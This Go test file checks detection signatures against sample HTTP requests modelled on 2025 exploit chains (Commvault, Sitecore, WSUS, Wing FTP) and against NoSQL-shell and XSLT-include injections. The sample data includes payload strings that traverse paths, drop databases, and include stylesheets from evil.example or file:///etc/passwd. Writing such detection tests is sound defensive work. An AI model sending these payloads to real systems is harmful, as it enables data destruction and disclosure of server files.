package patterns

import "testing"

// TestSigS16ExploitChains: attacks8's 2025 exploit chains by what each
// exploit's request must carry (a parameter, the method on the product's
// own path, the answer), and the products' users' requests that do not.
func TestSigS16ExploitChains(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		// Commvault CVE-2025-34028: servicePack climbing out, any answer
		{"GET", "/commandcenter/deployWebpackage.do", "commserveName=x&servicePack=../../Apache/webapps/ROOT&version=Cmd", "", 200, "cve-2025-34028-commvault-deploy", true},
		{"GET", "/commandcenter/deployWebpackage.do", "commserveName=x&servicePack=..%5C..%5CApache%5Cwebapps%5CROOT&version=Cmd", "", 400, "cve-2025-34028-commvault-deploy", true},
		{"GET", "/commandcenter/deployWebpackage.do", "commserveName=cs01&servicePack=SP38&version=11", "", 200, "cve-2025-34028-commvault-deploy", false},
		{"GET", "/downloads/deploy", "servicePack=../notes", "", 200, "cve-2025-34028-commvault-deploy", false},
		// Sitecore CVE-2025-53690: a ViewState in a Sitecore page's query
		{"POST", "/sitecore/blocked.aspx", "__VIEWSTATE=%2FwEyYl8LKKj2F8NoupYMBPg34KUR2jU4AkwPK1KsVLWCAsMSTjnEG", "", 200, "cve-2025-53690-sitecore-viewstate", true},
		{"POST", "/sitecore/service/nolayout.aspx", "x=1&__VIEWSTATE=%2FwEy", "", 404, "cve-2025-53690-sitecore-viewstate", true},
		{"POST", "/sitecore/shell/Applications/Content%20Editor.aspx", "sc_bw=1", "", 200, "cve-2025-53690-sitecore-viewstate", false},
		{"GET", "/sitecore/login", "returnUrl=%2Fsitecore%2Fshell", "", 200, "cve-2025-53690-sitecore-viewstate", false},
		// WSUS CVE-2025-59287: the reporting POST not served
		{"POST", "/ReportingWebService/ReportingWebService.asmx", "", "", 404, "cve-2025-59287-wsus-reporting", true},
		{"POST", "/ReportingWebService/ReportingWebService.asmx", "", "", 200, "cve-2025-59287-wsus-reporting", false},
		{"GET", "/ReportingWebService/ReportingWebService.asmx", "", "", 404, "cve-2025-59287-wsus-reporting", false},
		{"POST", "/ClientWebService/Client.asmx", "", "", 404, "cve-2025-59287-wsus-cookie-miss", true},
		{"POST", "/ClientWebService/Client.asmx", "", "", 503, "cve-2025-59287-wsus-cookie-miss", false},
		{"POST", "/ClientWebService/Client.asmx", "", "", 200, "cve-2025-59287-wsus-cookie-miss", false},
		// Wing FTP CVE-2025-47812: POST /loginok.html not served
		{"POST", "/loginok.html", "", "", 404, "cve-2025-47812-wingftp-login-miss", true},
		{"POST", "/loginok.html", "", "", 200, "cve-2025-47812-wingftp-login-miss", false},
		{"GET", "/loginok.html", "", "", 404, "cve-2025-47812-wingftp-login-miss", false},
		{"POST", "/app/loginok.html", "", "", 404, "cve-2025-47812-wingftp-login-miss", false},
		// CrushFTP's root missed; MLflow's UI API missed
		{"GET", "/WebInterface/", "", "", 404, "cve-crushftp-root-miss", true},
		{"GET", "/WebInterface/login.html", "", "", 404, "cve-crushftp-root-miss", true},
		{"GET", "/WebInterface/", "", "", 200, "cve-crushftp-root-miss", false},
		{"GET", "/WebInterface/", "", "", 502, "cve-crushftp-root-miss", false},
		{"GET", "/ajax-api/2.0/mlflow/experiments/list", "", "", 404, "probe-mlflow-api-miss", true},
		{"GET", "/ajax-api/2.0/mlflow/experiments/list", "", "", 200, "probe-mlflow-api-miss", false},
		{"POST", "/api/2.0/mlflow/runs/create", "", "", 404, "probe-mlflow-api-miss", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// TestSigS16DocsSearches: a docs site's search box quoting a read-only
// Mongo shell line or an XSLT include of a relative stylesheet is not an
// injection; the same grammar that loads from outside, writes, drops, or
// sits in another parameter still is.
func TestSigS16DocsSearches(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/search", "q=1%3B+db.users.find()", "", 200, "nosqli-shell-call", false},
		// fix-sig s16 (review rev-sig s16 item 4): only find()/findOne()
		// with empty parentheses is spared, and not when it fails
		{"GET", "/search", "query=1; db.orders.countDocuments({status: 1})", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.users.distinct(\"password\")", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.users.count({})", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=7; db.users.find()", "", 404, "nosqli-shell-call", false},
		{"GET", "/search", "q=7; db.users.find()", "", 500, "nosqli-shell-call-failed", true},
		{"GET", "/search", "q=7; db.users.find()", "", 403, "nosqli-shell-call-failed", true},
		{"GET", "/search", "q=7; db.users.find()", "", 404, "nosqli-shell-call-failed", false},
		{"GET", "/search", "q=7; db.users.find()", "", 200, "nosqli-shell-call-failed", false},
		// (item 3): ./../ anywhere, a tab, a non-search parameter count
		{"GET", "/search", "q=<xsl:include href=\"./../uploads/evil.xsl\"/>", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=<xsl:include\thref=\"uploads/evil.xsl\"/>", "", 200, "xxe-entity", true},
		{"GET", "/transform", "stylesheet=<xsl:import href=\"files/1234/shell.xsl\"/>", "", 200, "xxe-entity", true},
		{"GET", "/xslt", "xsl=<xsl:include href=\"evil.xsl\"/>", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=<xsl:include href=\"common.xsl\"/>&x=1", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=1; db.users.drop()", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.getCollectionNames()", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.users.find()&page=2", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.users.find(); db.dropDatabase()", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=1; db.users.find({$where: sleep(5000)})", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=this.a > 1; db.users.drop()", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "id=1; db.users.find()", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=%3Cxsl%3Ainclude+href%3D%22common.xsl%22%2F%3E", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=<xsl:import href=\"templates/base.xsl\"/>", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=<xsl:include href=\"http://evil.example/x.xsl\"/>", "", 200, "xxe-entity", true},
		{"GET", "/api/transform", "xsl=<xsl:import id=\"a\" href=\"file:///etc/passwd\"/>", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=<xsl:include href=\"../../../etc/passwd\"/>", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=<xsl:include href='/etc/passwd'/>", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=<xsl:include xmlns:e=\"urn:x\" href=\"{$u}\"/>", "", 200, "xxe-entity", true},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s: %s fired %v, want %v", c.method, c.path, c.query, c.rule, got, c.want)
		}
	}
}
